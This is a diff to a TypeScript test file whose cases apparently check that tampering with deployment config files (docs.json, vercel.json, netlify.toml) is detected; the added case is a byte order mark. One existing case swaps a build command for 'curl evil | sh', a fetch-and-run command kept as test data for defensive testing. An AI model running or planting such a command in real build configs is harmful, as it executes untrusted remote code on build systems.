@@ -92,6 +92,7 @@ test.each<[string, string, string, string]>([
     docsText.replace('"name": "Acme",', '"n\\u0061me": "x", "name": "Acme",'),
   ],
   ['a comment', 'docs.json', docsText, docsText.replace('"name"', '/* x */ "name"')],
+  ['a byte order mark', 'vercel.json', vercel, `\uFEFF${vercel}`],
   ['what is not JSON', 'docs.json', docsText, `${docsText},`],
   ['a command', 'netlify.toml', netlify, netlify.replace('make', 'curl evil | sh')],
   ['a plugin of Netlify', 'netlify.toml', netlify, `${netlify}\n[[plugins]]\npackage = "x"\n`],
